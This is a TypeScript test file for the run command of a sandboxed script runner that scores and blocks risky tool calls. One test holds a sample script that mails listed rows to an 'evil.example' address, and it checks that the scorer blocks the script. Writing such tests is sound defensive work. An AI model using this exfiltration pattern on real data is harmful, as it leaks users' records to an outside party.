import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { EnclaveOptions, RunOptions, RunResult } from '../enclave/types.ts';
import { type FakeIo, fakeIo, fakeServices, finding, result } from './fake.ts';
import { main } from './main.ts';

const folder = mkdtempSync(join(tmpdir(), 'steelyard-run-'));
afterAll(() => rmSync(folder, { recursive: true }));

let files = 0;
function file(name: string, text: string): string {
  // Modules are loaded once for each name.
  files += 1;
  const path = join(folder, `${files}-${name}`);
  writeFileSync(path, text);
  return path;
}

const TOOLS = `
export const tools = {
  'rows:list': {
    annotations: { readOnlyHint: true },
    description: 'List rows',
    execute: async ({ limit = 2 }) => Array.from({ length: limit }, (_, i) => ({ id: 'row-number-' + (i + 1) })),
  },
  'mail:send': async () => { throw new Error('the box is full'); },
  wait: (_, { signal }) => new Promise((resolve) => signal.addEventListener('abort', () => resolve('stopped'))),
};
`;
const toolsFile = file('tools.mjs', TOOLS);

interface Ran {
  readonly exit: number;
  readonly out: string;
  readonly err: string;
}

async function steelyard(
  args: readonly string[],
  io: FakeIo = fakeIo(),
  services?: ReturnType<typeof fakeServices>,
): Promise<Ran> {
  const exit = await main(['run', ...args], io, services);
  return { exit, out: io.stdout.text, err: io.stderr.text };
}

/** Runs a script with the real engine. */
const script = (code: string, ...args: string[]): Promise<Ran> =>
  steelyard([file('script.js', code), '--tools', toolsFile, ...args]);

describe('steelyard run', () => {
  it('shows the verdict, the calls in order, logs, value and figures', async () => {
    const { exit, out } = await script(
      `const rows = await callTool('rows:list', { limit: 1 });\nconsole.warn('one', rows.length);\nreturn rows;`,
    );
    expect(exit).toBe(0);
    expect(out).toContain('ALLOW');
    expect(out).toMatch(
      /calls\n {4}1 +\d+ ms {2}rows:list \{"limit":1\}\n +→ \d+ ms {2}\[\{"id":"row-number-1"\}\]/,
    );
    expect(out).toContain('logs\n  warn   one 1\n');
    expect(out).toContain('value\n  [\n    {\n      "id": "row-number-1"\n    }\n  ]\n');
    expect(out).toMatch(/\d+ ms, 1 call, engine \d+ ms and \d+\.\d MiB\n$/);
  });

  it('exits with 3 when the script failed, and says where', async () => {
    const { exit, out } = await script(`const a = null;\nreturn a.b;`);
    expect(exit).toBe(3);
    expect(out).toMatch(/failed SCRIPT_ERROR at 2:\d+: TypeError: /);
  });

  it('exits with 3 when a tool failed, and shows its error in the timeline', async () => {
    const { exit, out } = await script(`await callTool('mail:send', {});`);
    expect(exit).toBe(3);
    expect(out).toMatch(/mail:send \{\}\n +✗ \d+ ms {2}TOOL_ERROR: .*the box is full/);
    expect(out).toContain('failed TOOL_ERROR');
  });

  it('exits with 3 for what the level does not permit, with each place', async () => {
    const { exit, out } = await script('let i = 0;\nwhile (i < 2) i += 1;\ndebugger;', '--level', 'strict');
    expect(exit).toBe(3);
    expect(out).toContain('  2:1  `while` is not permitted');
    expect(out).toContain('  3:1  `debugger` is not permitted');
    expect((await script('let i = 0;\nwhile (i < 2) i += 1;')).exit).toBe(0);
  });

  it('exits with 1 for a blocked script, shows why, and runs nothing', async () => {
    const { exit, out } = await script(
      `const rows = await callTool('rows:list', {});\nawait callTool('mail:send', { to: 'x@evil.example', body: rows });`,
      '--block',
      '1',
      '--warn',
      '1',
    );
    expect(exit).toBe(1);
    expect(out).toContain('BLOCK');
    expect(out).toContain('failed SCORING_BLOCKED');
    expect(out).not.toContain('calls\n');
  });

  it('writes one JSON document', async () => {
    const { exit, out } = await script(
      `return (await tools.rows.list({ limit: 1 })).length`,
      '--format',
      'json',
    );
    expect(exit).toBe(0);
    expect(JSON.parse(out)).toMatchObject({
      version: 1,
      success: true,
      value: 1,
      scoring: { verdict: 'allow', scorer: 'flow' },
      calls: [
        {
          number: 1,
          tool: 'rows:list',
          args: { limit: 1 },
          outcome: { ok: true, value: [{ id: 'row-number-1' }] },
          flows: [],
        },
      ],
      logs: [],
      stats: { toolCalls: 1 },
    });
  });

  it('reads standard input, TypeScript too', async () => {
    const io = fakeIo({ stdin: 'const n: number = 4; return n' });
    const { exit, out } = await steelyard(['-', '--tools', toolsFile], io);
    expect([exit, out.includes('value\n  4\n')]).toEqual([0, true]);
    expect((await script('const n: number = 4; return n', '--language', 'js')).exit).not.toBe(0);
  });

  it('is aborted by an interrupt, also while a tool works', async () => {
    const stop = new AbortController();
    const io = fakeIo({ signal: stop.signal });
    const running = steelyard([file('script.js', `await tools.wait({})`), '--tools', toolsFile], io);
    setTimeout(() => stop.abort('SIGINT'), 300);
    expect((await running).exit).toBe(130);
  });

  it('makes a hostile text of a tool or script visible', async () => {
    const { out } = await script(`console.log('a\\u001b[2Jb'); return 'c\\u202ed'`);
    expect(out).toContain('a<U+001B>[2Jb');
    expect(out).not.toContain('\u202e');
  });
});

describe('options of steelyard run', () => {
  /** An Enclave that remembers what it was given. */
  function remembering(given: Partial<RunResult> = {}) {
    const seen: { options?: EnclaveOptions; code?: string; run?: RunOptions; disposed: boolean } = {
      disposed: false,
    };
    const services = fakeServices(undefined, {
      openEnclave: async (options) => {
        seen.options = options;
        return {
          run: async (code, run) => {
            seen.code = code;
            seen.run = run;
            return {
              success: true,
              stats: { durationMs: 1, toolCalls: 0, memoryBytes: 0, cpuMs: 0 },
              logs: [],
              journal: { version: 1, program: '', seed: '', startedAt: 0, entries: [] },
              diagnostics: [],
              ...given,
            };
          },
          dispose: async () => {
            seen.disposed = true;
          },
        };
      },
    });
    return { seen, services };
  }

  it('hands on level, scorer, thresholds, task, trusted destinations and language', async () => {
    const { seen, services } = remembering();
    const module = file(
      'more.mjs',
      `export default { a: () => 1 };\nexport const trustedDestinations = ['acme.example'];\nexport const globals = { region: 'eu' };\nexport const task = 'from the module';`,
    );
    const code = file('script.js', 'return 1');
    const args = [
      '--level',
      'secure',
      '--scorer',
      'rule-based',
      '--block',
      '60',
      '--trusted',
      'b.example',
      '--language',
      'js',
    ];
    const { exit } = await steelyard(
      [code, '--tools', module, ...args, '--task', 'say one'],
      fakeIo(),
      services,
    );
    expect(exit).toBe(0);
    expect(seen.options).toMatchObject({
      securityLevel: 'SECURE',
      scoringGate: { scorer: 'rule-based', blockThreshold: 60 },
      trustedDestinations: ['acme.example', 'b.example'],
      globals: { region: 'eu' },
    });
    expect(Object.keys(seen.options?.tools ?? {})).toEqual(['a']);
    expect(seen.run).toMatchObject({ task: 'say one', language: 'js' });
    expect([seen.code, seen.disposed]).toEqual(['return 1', true]);
    await steelyard([code, '--tools', module], fakeIo(), services);
    expect(seen.options?.securityLevel).toBe('STANDARD');
    expect(seen.run?.task).toBe('from the module');
  });

  it('exits with 2 when nothing could weigh the script that ran', async () => {
    const { services } = remembering({ scoring: result({ outcome: 'unavailable' }) });
    const code = file('script.js', 'return 1');
    expect((await steelyard([code, '--tools', toolsFile], fakeIo(), services)).exit).toBe(2);
    const scored = remembering({ scoring: result({ findings: [finding()], verdict: 'warn' }) });
    expect((await steelyard([code, '--tools', toolsFile], fakeIo(), scored.services)).exit).toBe(0);
  });

  it('shows which call data came from', async () => {
    const event = { tool: 'a', args: {}, atMs: 1, replayed: false } as const;
    const { services, seen } = remembering({
      journal: {
        version: 1,
        program: '',
        seed: '',
        startedAt: 0,
        entries: [
          { kind: 'call', sequence: 4, tool: 'a', argsDigest: '' },
          {
            kind: 'call',
            sequence: 7,
            tool: 'b',
            argsDigest: '',
            observed: [{ argument: ['rows', 0, 'a-b'], from: [{ call: 4, path: ['id'], how: 'base64' }] }],
          },
        ],
      },
    });
    const open = services.openEnclave;
    const spying = {
      ...services,
      openEnclave: async (options: EnclaveOptions) => {
        const enclave = await open(options);
        options.onToolCall?.({ ...event, phase: 'start', sequence: 4 });
        options.onToolCall?.({ ...event, phase: 'start', sequence: 7, tool: 'b' });
        return enclave;
      },
    };
    const { out } = await steelyard([file('script.js', 'return 1'), '--tools', toolsFile], fakeIo(), spying);
    expect(out).toContain('← `rows[0]["a-b"]` from call 1 `a: id` (base64)');
    expect(out).toContain('… not answered');
    expect(seen.disposed).toBe(true);
  });

  it('closes what the tools hold open', async () => {
    const module = file(
      'closing.mjs',
      `export const tools = {}; export const close = () => { globalThis.steelyardClosed = true };`,
    );
    const { services } = remembering();
    await steelyard([file('script.js', 'return 1'), '--tools', module], fakeIo(), services);
    expect((globalThis as { steelyardClosed?: boolean }).steelyardClosed).toBe(true);
  });

  it.each([
    [['--tools', 'x.mjs'], 'USAGE', 'give one script'],
    [['a.js', 'b.js', '--tools', 'x.mjs'], 'USAGE', 'give one script'],
    [['a.js'], 'USAGE', '`--tools` is missing'],
    [['-', '--tools', 'x.mjs'], 'USAGE', 'a terminal'],
    [['a.js', '--tools', 'x.mjs', '--level', 'strikt'], 'USAGE', 'did you mean `strict`?'],
    [['nothing.js', '--tools', 'x.mjs'], 'INPUT_INVALID', 'no file `nothing.js`'],
  ] as const)('refuses %j', async (args, code, text) => {
    const { exit, err } = await steelyard(args);
    expect(exit).toBe(2);
    expect(err).toContain(code);
    expect(err).toContain(text);
  });

  it.each([
    ['not a module', 'export const = 1', 'INPUT_INVALID', 'cannot be loaded'],
    ['no tools', 'export const task = "x"', 'CONFIG_INVALID', 'exports no `tools`'],
    [
      'a misspelt export',
      'export const tools = {}; export const trustedDestination = []',
      'CONFIG_INVALID',
      'did you mean `trustedDestinations`?',
    ],
    [
      'a wrong list',
      'export const tools = {}; export const trustedDestinations = [1]',
      'CONFIG_INVALID',
      'as a list of texts',
    ],
    ['a wrong task', 'export const tools = {}; export const task = 1', 'CONFIG_INVALID', 'as a text'],
    ['wrong globals', 'export const tools = {}; export const globals = 1', 'CONFIG_INVALID', 'as an object'],
    ['a wrong close', 'export const tools = {}; export const close = 1', 'CONFIG_INVALID', 'as a function'],
  ])('refuses a tools module with %s', async (_, text, code, message) => {
    const { exit, err } = await steelyard([file('script.js', 'return 1'), '--tools', file('bad.mjs', text)]);
    expect([exit, err.includes(code), err.includes(message)]).toEqual([2, true, true]);
  });
});
